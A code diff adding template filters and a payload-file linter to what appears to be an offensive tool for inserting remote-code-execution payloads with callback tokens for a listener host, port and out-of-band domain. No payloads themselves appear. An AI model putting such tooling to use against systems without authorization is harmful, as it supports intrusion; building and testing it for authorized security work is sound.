+// withOOB drops built-in OOB templates whose channel is not proto; templates
+// without a channel (including custom ones) are kept.
+func withOOB(tpls []payloadTemplate, proto string) []payloadTemplate {
+	out := make([]payloadTemplate, 0, len(tpls))
+	for _, t := range tpls {
+		if t.OOB == "" || t.OOB == proto {
+			out = append(out, t)
+		}
+	}
+	return out
+}
+
+// withoutToken drops templates that reference token.
+func withoutToken(tpls []payloadTemplate, token string) []payloadTemplate {
+	out := make([]payloadTemplate, 0, len(tpls))
+	for _, t := range tpls {
+		if !strings.Contains(t.Value, token) {
+			out = append(out, t)
+		}
+	}
+	return out
+}
+
+var (
+	tokenRe    = regexp.MustCompile(`\{[A-Z_]+\}`)
+	bareAddrRe = regexp.MustCompile(`(?i)\b(ip|port)\b`)
+	knownToken = map[string]bool{"{LHOST}": true, "{LPORT}": true, "{COLLAB}": true, "{CANARY_DOMAIN}": true}
+)
+
+// runValidate lints a payload templates file (or, with -headers, an rcesh
+// headers file) without generating anything, printing one line per issue.
+// It returns the exit status: 1 when any error was found.
+func runValidate(args []string) int {
+	fs := flag.NewFlagSet("validate", flag.ExitOnError)
+	headers := fs.Bool("headers", false, "file is an rcesh -headers-file ('Name: Value' lines) instead of payload templates")
+	fs.Parse(args)
+	if fs.NArg() != 1 {
+		fmt.Println("usage: go run inserter.go validate [-headers] file")
+		return 2
+	}
+	file := fs.Arg(0)
+	lines, err := readLines(file)
+	if err != nil {
+		fmt.Printf("Error reading %s: %v\n", file, err)
+		return 2
+	}
+
+	errs, warns, checked := 0, 0, 0
+	report := func(n int, level, format string, a ...interface{}) {
+		fmt.Printf("%s:%d: %s: %s\n", file, n, level, fmt.Sprintf(format, a...))
+		if level == "error" {
+			errs++
+		} else {
+			warns++
+		}
+	}
+	tags := make(map[string]int)
+	for i, l := range lines {
+		n := i + 1
+		l = strings.TrimSpace(l)
+		if l == "" || strings.HasPrefix(l, "#") {
+			continue
+		}
+		checked++
+		if *headers {
+			name, value, ok := strings.Cut(l, ":")
+			name = strings.TrimSpace(name)
+			if !ok || name == "" {
+				report(n, "error", "not a 'Name: Value' header")
+				continue
+			}
+			if strings.IndexFunc(name, func(r rune) bool { return r <= ' ' || r >= 0x7f || strings.ContainsRune("()<>@,;:\\\"/[]?={}", r) }) >= 0 {
+				report(n, "error", "invalid header name %q", name)
+			}
+			if tokenRe.MatchString(value) {
+				report(n, "warning", "%s is sent verbatim: -headers-file values are not token-expanded", tokenRe.FindString(value))
+			}
+			continue
+		}
+
+		tag, value, tagged := strings.Cut(l, "\t")
+		if !tagged {
+			value = l
+		} else if tag = strings.TrimSpace(tag); tag == "" {
+			report(n, "error", "empty tag before the tab")
+		} else if prev, ok := tags[tag]; ok {
+			report(n, "warning", "tag %q already used on line %d", tag, prev)
+		} else {
+			tags[tag] = n
+		}
+		value = strings.TrimSpace(value)
+		if value == "" {
+			report(n, "error", "empty payload")
+			continue
+		}
+		toks := tokenRe.FindAllString(value, -1)
+		for _, t := range toks {
+			if !knownToken[t] {
+				report(n, "error", "unknown token %s (use {LHOST}, {LPORT}, {COLLAB} or {CANARY_DOMAIN})", t)
+			}
+		}
+		if _, err := url.PathUnescape(tokenRe.ReplaceAllString(value, "")); err != nil {
+			report(n, "error", "malformed URL encoding: %v", err)
+		}
+		if strings.ContainsAny(value, " \t") {
+			report(n, "warning", "raw whitespace; templates are inserted URL-encoded, use %%20")
+		}
+		if len(toks) == 0 {
+			report(n, "warning", "no tokens; the payload has no callback and is inserted as-is")
+		}
+		if m := bareAddrRe.FindString(value); m != "" {
+			report(n, "warning", "bare %q is not substituted; use {LHOST}/{LPORT}", m)
+		}
+	}
+	fmt.Printf("%d lines checked, %d errors, %d warnings\n", checked, errs, warns)
+	if errs > 0 {
+		return 1
+	}
+	return 0
+}